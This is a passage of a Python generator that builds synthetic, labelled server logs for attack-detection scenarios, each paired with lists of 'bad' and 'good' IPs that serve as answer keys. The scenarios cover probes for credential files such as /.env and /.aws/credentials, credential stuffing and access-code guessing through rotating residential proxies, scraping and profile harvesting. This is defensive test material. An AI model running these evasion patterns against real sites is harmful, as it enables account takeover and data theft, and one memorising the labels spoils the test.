            ip = "%s:%x:%x:%x:%x" % (r.choice(["2a03:b0c0:%x:%x" % (r.randint(0, 3), r.randint(0, 0xffff)), "2604:a880:%x:%x" % (r.randint(0, 4), r.randint(0, 0xffff)), "2001:41d0:%x:%x" % (r.randint(0, 0x800), r.randint(0, 0xffff))]), r.randint(1, 0xffff), r.randint(0, 0xffff), r.randint(0, 0xffff), r.randint(1, 0xffff))
            L.used.add(ip)
        else:
            ip = dc_ip(L)
        t = r.uniform(0, 3590)
        for p in r.sample(secrets, r.choice([1, 1, 2])):
            L.add(t, ip, "GET", p, 404, 19, "-", GOOGLEBOT)
            t += r.uniform(0.1, 2)
        bad.append((ip, "secret probe with a Googlebot UA (1-2 requests)"))
    for k in range(30):
        ip = L.ip()
        L.add(r.uniform(0, 3600), ip, "GET", "/manifest.json", 200, 900, site.url("/"), r.choice(UAS))
        if k < 3:
            good.append((ip, "browser fetching the PWA /manifest.json"))
    return L, "Traefik JSON log of a forum: 160 one-shot secret-file probes (1-2 requests each: /.env, /.git/config, /.aws/credentials, ...) claiming to be Googlebot, from cloud IPv4 and IPv6 addresses in distinct /64s; the real Googlebot, bingbot, browsers fetching /manifest.json, members", bad, good


# 10. Fare scraping a travel site's availability API through ISP proxies.
# Models: a competitor's scraper walks routes and dates on
# /api/availability (JSON, 200) through 60 "ISP proxy" addresses in three
# /24s, each ~0.3 req/s for 30 minutes with a Chrome UA and the site as
# Referer, never loading a page or an asset. Around: a contracted
# meta-search partner (API key) at ~5 req/s from two fixed addresses, real
# searchers (search page, results, detail, assets), an office NAT.
@scen
def fare_scraper_isp_proxies_travel_availability_api():
    L = Log(T0, 4010, "www.example-reisen.de")
    r = L.rnd
    site = Site("www.example-reisen.de", ["/", "/flug/", "/pauschalreisen/", "/hotels/mallorca/", "/angebote/winter/", "/hilfe/"], ["/static/css/app.51ac.css"], ["/static/js/app.51ac.js", "/static/js/search.51ac.js"],
                lambda p, r: ["/img/dest/%s-%d.webp" % (r.choice(["palma", "teneriffa", "hurghada", "antalya"]), r.choice([480, 960])) for _ in range(r.randint(2, 8))])
    good = background(L, site, 3600, n=40)
    bad = []
    routes = [(a, b) for a in ["FRA", "MUC", "DUS", "HAM", "BER", "STR", "CGN"] for b in ["PMI", "TFS", "HRG", "AYT", "LPA", "FUE", "RAK", "DXB"]]

    def q(r):
        a, b = r.choice(routes)
        return "/api/availability?from=%s&to=%s&date=2026-12-%02d&ret=2027-01-%02d&pax=%d" % (a, b, r.randint(18, 31), r.randint(2, 10), r.choice([1, 2, 2, 4]))
    for n in range(3):
        pfx = "%d.%d.%d" % (r.choice([45, 154, 191]), r.randint(0, 255), r.randint(0, 255))
        for k in range(20):
            ip = L.ip(pfx)
            t = 600 + r.uniform(0, 10)
            while t < 2400:
                L.add(t, ip, "GET", q(r), 200, r.randint(8000, 60000), site.url("/flug/"), UAS[0])
                t += r.expovariate(0.3)
            bad.append((ip, "fare scraper through ISP proxies, ~0.3 req/s for 30 min, API only"))
    for pi in range(2):
        ip = "185.60.%d.%d" % (r.randint(0, 255), r.randint(2, 250))
        t = r.uniform(0, 1)
        while t < 3600:
            L.add(t, ip, "GET", q(r) + "&partner=mx77", 200, 30000, "-", "MetaSearch-Connector/4.2 (+https://partner.example-meta.com)")
            t += r.expovariate(2.5)
        good.append((ip, "contracted meta-search partner, ~2.5 req/s all hour"))
    for k in range(60):
        ip = L.ip()
        ua = r.choice(UAS)
        t = r.uniform(0, 3400)
        page_view(L, site, t, ip, ua, "/flug/", r.choice(SEARCH_REFS), set())
        for s in range(r.randint(1, 8)):
            t += r.uniform(5, 60)
            L.add(t, ip, "GET", q(r), 200, 30000, site.url("/flug/"), ua)
        if k < 5:
            good.append((ip, "searcher: page, assets, 1-8 availability queries"))
    return L, "Travel site: fare scraping of /api/availability through 60 ISP-proxy addresses in three /24s (~0.3 req/s each for 30 min, Chrome UA, API only); a contracted meta-search partner at ~2.5 req/s from two addresses, searchers, office NAT, crawlers", bad, good


# 11. Distributed guessing of lab-result access codes (nginx JSON).
# Models: a lab's result portal where patients enter the 8-character code
# from their paper slip and their birth date; an attacker rotates 300
# residential exits, 3-6 guesses each spread over two hours (404 "not
# found", 403 wrong birth date, rarely 200); the low-and-slow pattern of the
# 2021 test-centre portal leaks. Around: patients who mistype 1-3 times, a
# GP practice NAT fetching 40 results in 30 minutes, an office NAT.
@scen
def lab_result_access_code_guessing_distributed_json():
    L = Log(T0, 4011, "befund.example-labor.de")
    L.fmt = dict(json="nginx")
    r = L.rnd
    site = Site("befund.example-labor.de", ["/", "/abruf", "/hilfe", "/datenschutz"], ["/assets/befund.2c1f.css"], ["/assets/befund.2c1f.js"], lambda p, r: ["/assets/labor-logo.svg"])
    good = background(L, site, 7200, n=20)
    bad = []
    for k in range(300):
        ip = resi_ip(L)
        t = r.uniform(0, 6600)
        ua = r.choice(UAS)
        L.add(t, ip, "GET", "/abruf", 200, 7000, "-", ua)
        for g in range(r.randint(3, 6)):
            t += r.uniform(20, 240)
            L.add(t, ip, "POST", "/api/befund/abruf", r.choice([404] * 8 + [403]) if r.random() > 0.002 else 200, 90, site.url("/abruf"), ua)
        bad.append((ip, "access-code guessing from a residential exit, 3-6 tries (one of 300)"))
    for k in range(60):
        ip = L.ip()
        ua = r.choice(UAS)
        t = r.uniform(0, 7000)
        page_view(L, site, t, ip, ua, "/abruf", "-", set())
        for w in range(r.choice([0, 0, 1, 1, 2, 3])):
            t += r.uniform(15, 60)
            L.add(t, ip, "POST", "/api/befund/abruf", r.choice([404, 403]), 90, site.url("/abruf"), ua)
        L.add(t + 30, ip, "POST", "/api/befund/abruf", 200, 800, site.url("/abruf"), ua)
        L.add(t + 35, ip, "GET", "/api/befund/%s.pdf" % hexid(r, 16), 200, 180000, site.url("/abruf"), ua)
        if k < 6:
            good.append((ip, "patient: 0-3 typos then the result"))
    gp = L.ip("82.135.%d" % r.randint(0, 255))
    t = 2000.0
    for k in range(40):
        if r.random() < 0.15:
            L.add(t, gp, "POST", "/api/befund/abruf", 404, 90, site.url("/abruf"), UAS[0])
            t += r.uniform(5, 15)
        L.add(t, gp, "POST", "/api/befund/abruf", 200, 800, site.url("/abruf"), UAS[0])
        L.add(t + 3, gp, "GET", "/api/befund/%s.pdf" % hexid(r, 16), 200, 180000, site.url("/abruf"), UAS[0])
        t += r.uniform(20, 60)
    good.append((gp, "GP practice: 40 results in ~30 min, a few typos"))
    return L, "nginx JSON log of a lab-result portal: access-code guessing from 300 residential exits (3-6 tries each over two hours, 404/403); patients with typos, a GP practice fetching 40 results, office NAT", bad, good


# 12. Free-tier key rotation ignoring 429 on an LLM API (traefik JSON).
# Models: a reseller proxies traffic through 40 free-trial keys from 3 VPS,
# POST /v1/chat/completions at ~10 req/s each, ignoring 429 (95 % of answers)
# for 15 minutes - the free-tier abuse LLM providers describe. Around: a
# customer's batch job at the rate limit that honours Retry-After (a 429,
# then a pause), SDK retries (openai-python: 2 retries, 0.5-8 s backoff),
# a developer with a typo'd key (401 x5), an office NAT.
@scen
def llm_api_free_tier_keys_ignoring_429_traefik_json():
    L = Log(T0, 4012, "api.example-llm.ai")
    L.fmt = dict(json="traefik")
    r = L.rnd
    good = []
    bad = []
    for k in range(3):
        ip = dc_ip(L)
        t = 1200.0 + k * 60
        while t < 2100 + k * 60:
            L.add(t, ip, "POST", "/v1/chat/completions", 429 if r.random() < 0.95 else 200, 180, "-", r.choice(["OpenAI/Python 1.57.0", "node-fetch/1.0"]))
            t += r.expovariate(10)
        bad.append((ip, "free-tier key rotation ignoring 429, ~10 req/s for 15 min"))
    batch = "34.90.%d.%d" % (r.randint(0, 255), r.randint(2, 250))
    t = 0.0
    while t < 3600:
        if r.random() < 0.03:
            L.add(t, batch, "POST", "/v1/chat/completions", 429, 180, "-", "OpenAI/Python 1.57.0")
            t += r.uniform(5, 20)
            continue
        L.add(t, batch, "POST", "/v1/chat/completions", 200, r.randint(800, 12000), "-", "OpenAI/Python 1.57.0")
        t += r.uniform(0.2, 0.5)
    good.append((batch, "customer batch job at ~3 req/s honouring Retry-After"))
    for k in range(30):
        ip = L.ip()
        t = r.uniform(0, 3500)
        ua = r.choice(["OpenAI/Python 1.57.0", "OpenAI/JS 4.76.0", "langchain-core/0.3.21"])
        for q in range(r.randint(3, 60)):
            st = 200 if r.random() > 0.05 else r.choice([429, 500, 503])
            L.add(t, ip, "POST", "/v1/chat/completions", st, r.randint(500, 9000), "-", ua)
            if st != 200:
                for back in [0.5, 1.5]:
                    t += back * r.uniform(1, 2)
                    L.add(t, ip, "POST", "/v1/chat/completions", 200, 3000, "-", ua)
                    break
            t += r.uniform(0.5, 30)
        if k < 5:
            good.append((ip, "SDK client with retries"))
    dev = L.ip()
    for k in range(5):
        L.add(900 + k * 7, dev, "POST", "/v1/chat/completions", 401, 140, "-", "curl/8.5.0")
    L.add(990, dev, "POST", "/v1/chat/completions", 200, 2000, "-", "curl/8.5.0")
    good.append((dev, "developer with a mistyped key (401 x5)"))
    return L, "Traefik JSON log of an LLM API: free-tier key rotation from 3 VPS at ~10 req/s each ignoring 429 (95 %) for 15 min; a customer batch job at ~3 req/s honouring Retry-After, SDK clients with retries, a developer's mistyped key", bad, good


# 13. Credential stuffing against a university's CAS login.
# Models: Apereo CAS answers a failed login 401 and a good one 302 to the
# service with a ticket; each try GETs /cas/login (for the execution token)
# and POSTs it. A combo list replayed through 40 residential proxies (10-25
# tries each, one per 10-40 s) and one VPS at ~1 try/s for 15 minutes
# (python-requests). Around: the campus NAT at 08:00 with 400 students
# logging in (typos answered 401), staff at home.
@scen
def cas_login_stuffing_university():
    L = Log(T0, 4013, "login.uni-example.edu")
    r = L.rnd
    site = Site("login.uni-example.edu", ["/cas/login"], ["/cas/themes/uni/css/cas.css"], ["/cas/js/cas.js"], lambda p, r: ["/cas/themes/uni/images/logo.svg"])
    good = []
    bad = []
    svc = pct("https://moodle.uni-example.edu/login/index.php")

    def attempt(ip, t, ua, st, assets=False):
        L.add(t, ip, "GET", "/cas/login?service=%s" % svc, 200, 8800, "https://moodle.uni-example.edu/", ua)
        if assets:
            for a in site.css + site.js:
                L.add(t + 0.2, ip, "GET", a, 200, 30000, site.url("/cas/login"), ua)
        L.add(t + r.uniform(0.5, 12), ip, "POST", "/cas/login?service=%s" % svc, st, 8900 if st == 401 else 0, site.url("/cas/login?service=" + svc), ua)
    nat = L.ip("141.20.252")
    for k in range(400):
        t = r.uniform(0, 2400)
        ua = r.choice(UAS)
        for w in range(r.choice([0] * 6 + [1, 1, 2])):
            attempt(nat, t, ua, 401, assets=(w == 0))
            t += r.uniform(10, 30)
        attempt(nat, t, ua, 302, assets=True)
    good.append((nat, "campus NAT at 08:00: 400 students logging in, typos answered 401"))
    for k in range(30):
        ip = L.ip()
        attempt(ip, r.uniform(0, 3600), r.choice(UAS), r.choice([302, 401]), assets=True)
        attempt(ip, r.uniform(0, 3600), r.choice(UAS), 302)
        if k < 5:
            good.append((ip, "staff at home"))
    for k in range(40):
        ip = resi_ip(L)
        t = r.uniform(0, 2400)
        for a in range(r.randint(10, 25)):
            attempt(ip, t, UAS[0], 302 if r.random() < 0.01 else 401)
            t += r.uniform(10, 40)
        bad.append((ip, "credential stuffing via residential proxy, 10-25 tries at one per 10-40 s"))
    vps = dc_ip(L)
    t = 1500.0
    while t < 2400:
        attempt(vps, t, "python-requests/2.32.3", 401)
        t += r.uniform(0.8, 1.3)
    bad.append((vps, "credential stuffing ~1 try/s for 15 min"))
    return L, "University CAS: credential stuffing (GET /cas/login + POST, 401) through 40 residential proxies (10-25 tries each, one per 10-40 s) and from one VPS at ~1/s for 15 min; the campus NAT at 08:00 with 400 students logging in (typos 401), staff at home", bad, good


# 14. Open-proxy checks: absolute-URI requests and CONNECT.
# Models: proxy hunters (the endless "GET http://azenv.net/ HTTP/1.1",
# "CONNECT www.google.com:443", proxy-judge and ip-check URLs) from 120
# scanner addresses, 1-3 requests each; nginx answers absolute-URI GETs from
# the default server (200 or 404) and CONNECT with 400. A few also try the
# absolute URI of the site itself. Around: a government portal's citizens, a
# corporate proxy (Squid) forwarding 40 employees' requests normally.
@scen
def open_proxy_checks_absolute_uri_connect_gov():
    L = Log(T0, 4014, "www.example-stadt.gov")
    r = L.rnd
    site = portal_site("www.example-stadt.gov")
    good = background(L, site, 3600, n=40, office=False)
    squid = L.ip("193.175.%d" % r.randint(0, 255))
    browsers(L, site, 40, 3600, ips=[squid], ua_pool=UAS[:4])
    good.append((squid, "corporate Squid proxy: 40 employees, ordinary requests"))
    probes = [("GET", "http://azenv.net/", 200), ("GET", "http://www.google.com/", 404), ("CONNECT", "www.google.com:443", 400), ("GET", "http://proxyjudge.info/azenv.php", 404), ("GET", "http://httpbin.org/ip", 404),
              ("GET", "http://ip-api.com/json", 404), ("CONNECT", "api.ipify.org:443", 400), ("GET", "http://www.baidu.com/", 404), ("HEAD", "http://example.com/", 404), ("GET", "http://www.example-stadt.gov/", 200), ("CONNECT", "smtp.gmail.com:587", 400)]
    bad = []
    for k in range(120):
        ip = dc_ip(L) if k % 3 else resi_ip(L)
        t = r.uniform(0, 3590)
        for m, p, st in r.sample(probes, r.choice([1, 2, 2, 3])):
            L.add(t, ip, m, p, st, 150 if st == 400 else 612, "-", r.choice(["-", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36", "Go-http-client/1.1", "python-requests/2.31.0"]))
            t += r.uniform(0.2, 3)
        bad.append((ip, "open-proxy check: absolute-URI GET / CONNECT (1-3 requests)"))
    return L, "City portal: 120 open-proxy checkers sending 1-3 absolute-URI GETs (azenv, proxy judges, ip-check services) and CONNECTs (400); a corporate Squid forwarding 40 employees, citizens, crawlers", bad, good


# 15. Member-profile harvesting on a forum (headless Chrome and a /24).
# Models: a spam/phishing crew harvests profiles (name, links, join date):
# headless Chrome from one VPS walks /members/<id>/ in id order at ~1 page
# per 1.2 s for an hour (no assets: images blocked), deleted ids 404 and
# private ones 403; a second crawler uses 10 addresses of one /24 at ~0.2
# req/s each with a normal Chrome UA, also HTML only. Around: members
# viewing profiles with assets, a moderator paging the member list quickly,
# Googlebot.
@scen
def forum_member_profile_harvest_headless_and_slash24():
    L = Log(T0, 4015, "forum.example-gamers.net")
    r = L.rnd
    site = forum_site("forum.example-gamers.net")
    good = background(L, site, 3600, n=50)
    bad = []
    hc = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36"
    a = dc_ip(L)
    t = 300.0
    mid = 1200
    while t < 3600:
        st = r.choice([200] * 8 + [404, 403])
        L.add(t, a, "GET", "/members/%d/" % mid, st, 14000 if st == 200 else 4000, "-", hc)
        mid += 1
        t += r.uniform(0.9, 1.5)
    bad.append((a, "headless Chrome walking /members/<id>/ at ~1 page/1.2 s for an hour, HTML only"))
    pfx = "%d.%d.%d" % (r.choice([5, 37, 193]), r.randint(0, 255), r.randint(0, 255))
    mid = 20000
    for k in range(10):
        ip = L.ip(pfx)
        t = r.uniform(0, 30)
        while t < 3600:
            st = r.choice([200] * 8 + [404, 403])
            L.add(t, ip, "GET", "/members/%s.%d/" % (rand_token(r, 7, "abcdefghijklmnopqrstuvwxyz"), mid), st, 14000 if st == 200 else 4000, "-", UAS[0])
            mid += 1
            t += r.expovariate(0.2)
        bad.append((ip, "profile harvesting from a /24, ~0.2 req/s each, HTML only (one of 10)"))
    for k in range(30):
        ip = L.ip()
        ua = r.choice(UAS)
        t = r.uniform(0, 3400)
        for v in range(r.randint(1, 5)):
            page_view(L, site, t, ip, ua, "/members/%s.%d/" % (rand_token(r, 6, "abcdefghijklmnopqrstuvwxyz"), r.randint(1, 40000)), site.url("/threads/match-thread-derby.40113/"), set())
            t += r.uniform(5, 60)
        if k < 4:
            good.append((ip, "member viewing profiles"))
    mod = L.ip()
    for k in range(120):
        L.add(1000 + k * r.uniform(1, 3), mod, "GET", "/members/list/?page=%d" % (k + 1), 200, 22000, site.url("/members/list/"), UAS[3])
    good.append((mod, "moderator paging the member list, ~1 page/2 s"))
    return L, "Gaming forum: profile harvesting by headless Chrome (/members/<id>/ in order, ~1 page/1.2 s for an hour, HTML only, 404/403) and by 10 addresses of one /24 (~0.2 req/s each, Chrome UA); members viewing profiles, a moderator paging the member list, crawlers", bad, good


def main():
    run(SC, OUT, "fresh-s17 attack: ")


main()
